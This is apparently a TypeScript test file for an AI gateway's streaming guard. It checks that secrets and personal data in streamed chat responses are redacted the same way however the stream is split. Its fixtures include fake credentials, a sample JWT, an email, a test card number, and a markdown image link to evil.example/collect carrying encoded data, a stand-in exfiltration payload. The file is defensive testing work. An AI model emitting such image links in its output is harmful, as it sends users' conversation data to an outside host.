// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { policySchema, type Policy } from '../../../src/gateway/config/schema.js';
import { judgeResponse } from '../../../src/gateway/inspect/judge.js';
import { ResponseStreamGuard } from '../../../src/gateway/stream/response-stream-guard.js';
import { SseReader } from '../../../src/gateway/stream/sse-reader.js';
import { FUZZ_RUNS, FUZZ_TIME_MS } from '../../support/fuzz.js';

const SECRETS = [
  'postgres://admin:Sup3rS3cretPassw0rd@db.internal.example:5432/prod',
  'sk-proj-abcdefghijklmnopqrstT3BlbkFJabcdefghijklmnopqrst',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  '![chart](https://evil.example/collect?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YSBmcm9tIHRoZSBjaGF0)',
  'jane.doe@acme-corp.com',
  '4111 1111 1111 1111',
];
const WORDS = ['the', 'answer', 'is', 'here:', 'see', '`code`', 'and', 'then', '—', 'naïve', '😀', '\n', 'https://example.com/docs', 'user@', ':', '='];

const POLICY: Policy = policySchema.parse({ actions: { pii: 'redact' } });

/** @returns the text the non-streamed path answers for `text`. */
function redactWhole(text: string): string {
  return judgeResponse([{ path: ['content'], text, role: 'output' }], POLICY, []).rewrites[0]?.text ?? text;
}

function toSse(pieces: readonly string[]): string {
  const base = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm' };
  const event = (choice: object): string => `data: ${JSON.stringify({ ...base, choices: [{ index: 0, ...choice }] })}\n\n`;
  return event({ delta: { role: 'assistant', content: '' }, finish_reason: null })
    + pieces.map((p) => event({ delta: { content: p }, finish_reason: null })).join('')
    + event({ delta: {}, finish_reason: 'stop' }) + 'data: [DONE]\n\n';
}

/** Streams `pieces` through the guard, the SSE bytes cut at `byteCuts`. @returns the text the caller reads. */
function streamThrough(pieces: readonly string[], byteCuts: readonly number[] = []): { text: string; done: boolean } {
  const guard = new ResponseStreamGuard({ endpoint: 'chat', policy: POLICY, canaries: [] });
  const bytes = Buffer.from(toSse(pieces));
  const reader = new SseReader(1 << 20);
  let out = '';
  let at = 0;
  for (const cut of [...byteCuts.map((c) => c % (bytes.length + 1)), bytes.length].sort((a, b) => a - b)) {
    for (const event of reader.push(bytes.subarray(at, cut))) out += guard.transform(event);
    at = cut;
  }
  for (const event of reader.end()) out += guard.transform(event);
  const events = new SseReader(1 << 20).push(Buffer.from(out));
  const text = events.filter((e) => e.data !== '[DONE]').map((e) => {
    const chunk = JSON.parse(e.data) as { choices: { delta: { content?: string } }[] };
    return chunk.choices.map((c) => c.delta.content ?? '').join('');
  }).join('');
  return { text, done: events.at(-1)?.data === '[DONE]' };
}

function splitAt(text: string, cuts: readonly number[]): string[] {
  const sorted = [...new Set(cuts)].sort((a, b) => a - b);
  const pieces: string[] = [];
  let at = 0;
  for (const cut of sorted) { pieces.push(text.slice(at, cut)); at = cut; }
  pieces.push(text.slice(at));
  return pieces;
}

describe('ResponseStreamGuard hold-back', () => {
  const fixed = `Connect with ${SECRETS[0] ?? ''} or mail ${SECRETS[4] ?? ''} today.`;

  it('redacts what the whole-text path redacts, and leaks none of it', () => {
    const whole = redactWhole(fixed);
    expect(whole).not.toContain('Sup3rS3cretPassw0rd');
    expect(whole).not.toContain('jane.doe');
    expect(streamThrough([fixed]).text).toBe(whole);
  });

  it('gives the same text for every single cut and every pair of cuts of the content', () => {
    const whole = redactWhole(fixed);
    for (let a = 0; a <= fixed.length; a++) {
      expect(streamThrough(splitAt(fixed, [a])).text).toBe(whole);
      for (let b = a + 1; b <= fixed.length; b += 1) expect(streamThrough(splitAt(fixed, [a, b])).text).toBe(whole);
    }
  });

  it('gives the same text for random texts, random content splits and random byte splits of the stream', () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...SECRETS), fc.constantFrom(...WORDS), fc.string({ maxLength: 6 })), { maxLength: 24 })
      .map((parts) => parts.join(' '));
    fc.assert(fc.property(text, fc.array(fc.nat(), { maxLength: 30 }), fc.array(fc.nat(), { maxLength: 30 }), (t, cuts, byteCuts) => {
      const streamed = streamThrough(splitAt(t, cuts.map((c) => c % (t.length + 1))), byteCuts);
      expect(streamed.text).toBe(redactWhole(t));
      expect(streamed.done).toBe(true);
    }), { numRuns: FUZZ_RUNS, interruptAfterTimeLimit: FUZZ_TIME_MS });
  });

  it('one character per event still redacts (the longest hold-back case)', () => {
    const t = `a ${SECRETS[2] ?? ''} b ${SECRETS[3] ?? ''} c`;
    expect(streamThrough(t.split('')).text).toBe(redactWhole(t));
  });
});
